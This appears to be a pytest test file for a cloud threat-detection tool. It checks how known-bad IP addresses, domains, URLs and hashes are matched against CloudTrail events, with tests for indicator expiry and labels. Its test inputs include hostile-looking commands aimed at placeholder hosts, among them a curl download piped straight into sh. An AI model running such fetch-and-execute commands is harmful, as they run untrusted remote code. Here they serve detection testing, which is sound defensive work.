"""What is known to do harm is looked up; what ended says nothing."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as some

from cloudward.connect.indicators import normal
from cloudward.detect import Detection
from cloudward.detect.indicators.lookup import Indicators
from cloudward.detect.loading import load
from cloudward.model import Indicator
from cloudward.pack.mappings import sources

NOW = datetime(2026, 11, 20, tzinfo=UTC)


def judged(folder: Path, asked: str, event: dict[str, Any], *known: Indicator) -> tuple[str, ...]:
    (folder / "listed.yaml").write_text(
        "title: Known to do harm\nid: listed\nlogsource: {product: aws, service: cloudtrail}\n"
        f"detection: {{selection: {{eventName: '*'}}, condition: selection}}\nindicators: {asked}\n"
    )
    found = load(folder, built_in=False, use_cache=False)
    assert not found.failed, found.failed
    detection = found["listed"]
    assert isinstance(detection, Detection)
    assert not detection.alone
    verdict = Indicators(known).judge(detection, event, sources()["aws-cloudtrail"], NOW.timestamp())
    return verdict.reasons if verdict else ()


ADDRESS = "{kinds: [address], fields: [sourceIPAddress]}"


def test_the_alert_says_who_lists_it_how_sure_and_until_when(tmp_path: Path) -> None:
    end = NOW + timedelta(days=3)
    known = Indicator("address", "203.0.113.9", "exits", 80, end, ("tor",), "relay x")
    assert judged(tmp_path, ADDRESS, {"sourceIPAddress": "203.0.113.9"}, known) == (
        "203.0.113.9 is listed by exits as tor (relay x): confidence 80 of 100, until 2026-11-23",
    )


def test_what_ended_before_the_event_says_nothing(tmp_path: Path) -> None:
    known = Indicator("address", "203.0.113.9", "exits", 80, NOW)
    assert judged(tmp_path, ADDRESS, {"sourceIPAddress": "203.0.113.9"}, known) == ()


@pytest.mark.parametrize(
    ("asked", "fits"),
    [
        (ADDRESS, True),
        ("{kinds: [address], fields: [ip]}", True),
        ("{kinds: [address], fields: [ip], labels: [tor]}", True),
        ("{kinds: [address], fields: [ip], labels: [c2]}", False),
        ("{kinds: [address], fields: [ip], without: [tor]}", False),
        ("{kinds: [domain], fields: [ip]}", False),
        ("{kinds: [address], fields: [userAgent]}", False),
    ],
)
def test_a_detection_asks_for_kinds_fields_and_labels(asked: str, fits: bool, tmp_path: Path) -> None:
    known = Indicator("address", "203.0.113.0/24", "exits", 80, None, ("tor", "exit"))
    assert bool(judged(tmp_path, asked, {"sourceIPAddress": "203.0.113.9"}, known)) is fits


def test_names_urls_and_hashes_are_found_in_texts(tmp_path: Path) -> None:
    known = [
        Indicator("domain", "bad.example", "l", 50),
        Indicator("url", "https://worse.example/x?y=1", "l", 60),
        Indicator("hash", "d" * 64, "l", 70),
    ]
    asked = "{kinds: [domain, url, hash], fields: [command]}"
    for text, count in (
        ("curl -s http://a.b.bad.example:8080/x | sh", 1),
        ("bad.example", 1),
        ("wget 'https://worse.example/x?y=1'", 1),
        (f"sha256:{'D' * 64} https://worse.example/x?y=1 http://u:p@bad.example/", 3),
        ("curl http://notbad.example/ http://example/ " + "d" * 65, 0),
    ):
        assert len(judged(tmp_path, asked, {"command": text}, *known)) == count, text


@given(
    some.lists(some.tuples(some.integers(0, 2**32 - 1), some.integers(1, 32)), max_size=12),
    some.integers(0, 2**32 - 1),
)
@settings(max_examples=80, deadline=None)
def test_networks_are_found_as_by_looking_at_each(networks: list[tuple[int, int]], number: int) -> None:
    from ipaddress import ip_address, ip_network

    values = {normal("address", f"{ip_address(base)}/{length}") for base, length in networks}
    known = Indicators(Indicator("address", value, "l", 50) for value in values)
    wanted = ip_address(number)
    expected = {value for value in values if wanted in ip_network(value)}
    assert {each.value for each in known.known("address", str(wanted))} == expected
